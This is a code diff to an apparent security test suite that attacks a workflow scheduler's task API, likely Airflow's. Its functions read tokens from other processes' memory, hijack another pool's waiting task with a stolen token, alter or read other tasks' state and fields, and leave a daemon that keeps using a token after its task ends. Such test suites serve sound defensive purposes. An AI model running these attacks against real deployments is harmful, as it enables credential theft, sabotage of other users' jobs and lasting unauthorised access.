@@ -16,15 +16,31 @@ from mallory_attacks.broker import token_of_waiting_task
 
 TIMEOUT_S = 20.0
 DENIED = (401, 403)
+REFRESHED = "Refreshed-API-Token"  # the header with the token of scope execution
 AFTER_END_S = 12.0
 
 
-def _own_token(facts: Facts) -> str:
+def _token(facts: Facts) -> str:
+    """Return a token of a running task: its own, or that of a task which it takes over."""
     for pid in loot.readable():
         with contextlib.suppress(OSError):
-            if token := loot.tokens(pid).get(facts.own["id"]):
+            if token := loot.tokens(pid, scope="execution").get(facts.own["id"]):
                 return token
-    raise Refused("its own token is in no memory that it can read")
+    return _taken_over(facts)[1]
+
+
+_taken: list[tuple[int, str]] = []  # a task can be taken over once
+
+
+def _taken_over(facts: Facts) -> tuple[int, str]:
+    """Run the victim's waiting task with the token from its message; return the status and the token for it."""
+    if not _taken:
+        token = token_of_waiting_task(facts)
+        body = {"state": "running", "hostname": "mallory", "unixname": "mallory", "pid": 1, "start_date": _now()}
+        answer = _call(facts, "PATCH", f"/task-instances/{facts.victim['never']}/run", token, json=body)
+        _said(answer)
+        _taken.append((answer.status_code, answer.headers.get(REFRESHED, "")))
+    return _taken[0]
 
 
 def _call(facts: Facts, method: str, path: str, token: str, **more: Any) -> httpx.Response:
@@ -51,15 +67,19 @@ def _now() -> str:
 
 @attack
 def api_find_its_own_token(facts: Facts) -> str:
-    """Find its own token, which only its supervisor needs."""
-    return f"a token of {len(_own_token(facts))} characters"
+    """Find a token of its own, which only its supervisor needs."""
+    for pid in loot.readable():
+        with contextlib.suppress(OSError):
+            if token := loot.tokens(pid).get(facts.own["id"]):
+                return f"a token of {len(token)} characters"
+    raise Refused("its own token is in no memory that it can read")
 
 
 @attack
 def api_state_of_another_task(facts: Facts) -> str:
     """Fail another task with its own token."""
     body = {"state": "failed", "end_date": _now()}
-    return _said(_call(facts, "PATCH", f"/task-instances/{facts.victim['hold']}/state", _own_token(facts), json=body))
+    return _said(_call(facts, "PATCH", f"/task-instances/{facts.victim['hold']}/state", _token(facts), json=body))
 
 
 @attack
@@ -67,21 +87,21 @@ def api_heartbeat_of_another_task(facts: Facts) -> str:
     """Send another task's heartbeat with its own token."""
     body = {"hostname": "mallory", "pid": 1}
     path = f"/task-instances/{facts.victim['hold']}/heartbeat"
-    return _said(_call(facts, "PUT", path, _own_token(facts), json=body))
+    return _said(_call(facts, "PUT", path, _token(facts), json=body))
 
 
 @attack
 def api_rendered_fields_of_another_task(facts: Facts) -> str:
     """Replace another task's rendered fields with its own token."""
     return _said(
-        _call(facts, "PUT", f"/task-instances/{facts.victim['hold']}/rtif", _own_token(facts), json={"mallory": "1"})
+        _call(facts, "PUT", f"/task-instances/{facts.victim['hold']}/rtif", _token(facts), json={"mallory": "1"})
     )
 
 
 @attack
 def api_state_store_of_another_task(facts: Facts) -> str:
     """Read what another task stored for its retries, with its own token."""
-    answer = _call(facts, "GET", f"/store/ti/{facts.victim['hold']}/mallory", _own_token(facts))
+    answer = _call(facts, "GET", f"/store/ti/{facts.victim['hold']}/mallory", _token(facts))
     if answer.status_code == 404:
         raise Refused("HTTP 404")
     return _said(answer)
@@ -96,9 +116,7 @@ def api_without_a_token(facts: Facts) -> str:
 @wrecking
 def api_take_over_a_waiting_task(facts: Facts) -> str:
     """Run another pool's task in its own process, with the token from the message."""
-    token = token_of_waiting_task(facts)
-    body = {"state": "running", "hostname": "mallory", "unixname": "mallory", "pid": 1, "start_date": _now()}
-    return _said(_call(facts, "PATCH", f"/task-instances/{facts.victim['never']}/run", token, json=body))
+    return f"HTTP {_taken_over(facts)[0]}"
 
 
 @attack
@@ -132,7 +150,7 @@ def api_sign_in_as_admin(facts: Facts) -> str:
 @attack
 def api_ui_with_its_own_token(facts: Facts) -> str:
     """Use its own token for the public REST API."""
-    headers = {"Authorization": f"Bearer {_own_token(facts)}"}
+    headers = {"Authorization": f"Bearer {_token(facts)}"}
     return _said(_request("GET", f"{facts.webserver}/api/v2/connections", headers))
 
 
@@ -185,7 +203,7 @@ def supervisor_change_an_xcom_of_another_dag(facts: Facts) -> str:
 @wrecking
 def token_and_process_after_the_tasks_end(facts: Facts) -> str:
     """Leave a daemon behind that uses the task's token when the task has ended."""
-    token = _own_token(facts)
+    token = _token(facts)
     if os.fork() == 0:
         os.setsid()
         for number in range(256):
